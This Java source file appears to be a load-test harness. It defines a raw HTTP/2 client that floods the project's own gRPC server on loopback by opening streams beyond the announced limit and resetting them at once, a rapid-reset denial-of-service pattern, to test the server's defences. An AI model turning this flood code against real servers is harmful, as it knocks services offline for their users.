package dev.sharpness.trainer.exchange;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;

/**
 * An HTTP/2 client that writes frames itself and so need not keep HTTP/2's rules, as an attacker
 * does not: it opens streams beyond the limit the server announced and resets them as fast as it
 * can. It sends the connection preface and SETTINGS, acknowledges the server's, then only HEADERS
 * (a call without the token) and RST_STREAM frames, in batches. What the server sends is read and
 * dropped on a thread of its own, so the server's writes never wait on it. Its {@link #main} is the
 * third attacker of {@code bench/exchange-attack.sh}.
 */
final class RawHttp2Client implements AutoCloseable {
    private static final byte[] PREFACE =
            "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
    private static final int HEADERS = 0x1;
    private static final int RST_STREAM = 0x3;
    private static final int SETTINGS = 0x4;
    private static final int END_STREAM = 0x1;
    private static final int ACK = 0x1;
    private static final int END_HEADERS = 0x4;
    private static final byte[] CANCEL = {0, 0, 0, 0x8};

    private final Socket socket;
    private final OutputStream out;
    private final byte[] headerBlock;
    private final Thread reader;
    private volatile boolean closedByServer;
    private int nextStream = 1;

    RawHttp2Client(int port) throws IOException {
        socket = new Socket(InetAddress.getLoopbackAddress(), port);
        socket.setTcpNoDelay(true);
        out = socket.getOutputStream();
        headerBlock = headerBlock(port);
        InputStream in = socket.getInputStream();
        reader =
                new Thread(
                        () -> {
                            byte[] sink = new byte[1 << 16];
                            try {
                                while (in.read(sink) >= 0) {
                                    // dropped
                                }
                            } catch (IOException e) {
                                // a reset ends the connection as an end of stream does
                            }
                            closedByServer = true;
                        },
                        "raw-http2-reader");
        reader.setDaemon(true);
        reader.start();
        ByteArrayOutputStream start = new ByteArrayOutputStream();
        start.writeBytes(PREFACE);
        frame(start, SETTINGS, 0, 0, new byte[0]);
        frame(start, SETTINGS, ACK, 0, new byte[0]);
        out.write(start.toByteArray());
    }

    /**
     * Floods rank 0's port on loopback for a while: streams reset as soon as opened, then streams
     * beyond the limit, in turns of a second each on a connection of its own, and on a fresh one
     * whenever rank 0 ends one. Prints what it sent.
     *
     * @param args PORT SECONDS
     */
    public static void main(String[] args) throws Exception {
        int port = Integer.parseInt(args[0]);
        long end = System.nanoTime() + Long.parseLong(args[1]) * 1_000_000_000L;
        long streams = 0;
        long connections = 0;
        boolean reset = true;
        while (System.nanoTime() < end) {
            long turn = Math.min(end, System.nanoTime() + 1_000_000_000L);
            try (RawHttp2Client client = new RawHttp2Client(port)) {
                connections++;
                while (System.nanoTime() < turn
                        && !client.closedByServer(0)
                        && client.open(100, reset)) {
                    streams += 100;
                }
            } catch (IOException e) {
                Thread.sleep(10); // closed at the connection cap as it was accepted: again
            }
            if (System.nanoTime() >= turn) {
                reset = !reset;
            }
        }
        System.out.printf(
                "rule breaker: %d streams opened and reset at once or beyond the limit, over %d"
                        + " connections%n",
                streams, connections);
    }

    /**
     * Opens {@code count} streams, each a call without the token; with {@code reset} each is reset
     * at once after its HEADERS, else it is half-closed by them (END_STREAM), as a unary call
     * without a message would be.
     *
     * @return false if the server had closed the connection before all were written
     */
    boolean open(int count, boolean reset) {
        ByteArrayOutputStream batch = new ByteArrayOutputStream();
        for (int i = 0; i < count; i++) {
            int stream = nextStream;
            nextStream += 2;
            frame(
                    batch,
                    HEADERS,
                    reset ? END_HEADERS : END_HEADERS | END_STREAM,
                    stream,
                    headerBlock);
            if (reset) {
                frame(batch, RST_STREAM, 0, stream, CANCEL);
            }
        }
        try {
            out.write(batch.toByteArray());
            out.flush();
            return true;
        } catch (IOException e) {
            return false;
        }
    }

    /**
     * Whether the server has ended the connection, waiting at most {@code millis} for it (0: not at
     * all).
     */
    boolean closedByServer(long millis) throws InterruptedException {
        if (millis > 0) {
            reader.join(millis);
        }
        return closedByServer;
    }

    @Override
    public void close() throws IOException {
        socket.close();
    }

    /**
     * The request headers of GetProgress, each a literal without indexing (HPACK keeps no state).
     */
    private static byte[] headerBlock(int port) {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        literal(block, ":method", "POST");
        literal(block, ":scheme", "http");
        literal(block, ":path", "/sam.exchange.v1.PairExchange/GetProgress");
        literal(block, ":authority", "127.0.0.1:" + port);
        literal(block, "content-type", "application/grpc");
        literal(block, "te", "trailers");
        return block.toByteArray();
    }

    private static void literal(ByteArrayOutputStream block, String name, String value) {
        byte[] n = name.getBytes(StandardCharsets.US_ASCII);
        byte[] v = value.getBytes(StandardCharsets.US_ASCII);
        block.write(0); // literal header field without indexing, new name
        block.write(n.length); // each under 127 bytes: a one-byte length, no Huffman coding
        block.writeBytes(n);
        block.write(v.length);
        block.writeBytes(v);
    }

    private static void frame(
            ByteArrayOutputStream to, int type, int flags, int stream, byte[] payload) {
        to.write(payload.length >>> 16);
        to.write(payload.length >>> 8);
        to.write(payload.length);
        to.write(type);
        to.write(flags);
        to.write(stream >>> 24);
        to.write(stream >>> 16);
        to.write(stream >>> 8);
        to.write(stream);
        to.writeBytes(payload);
    }
}
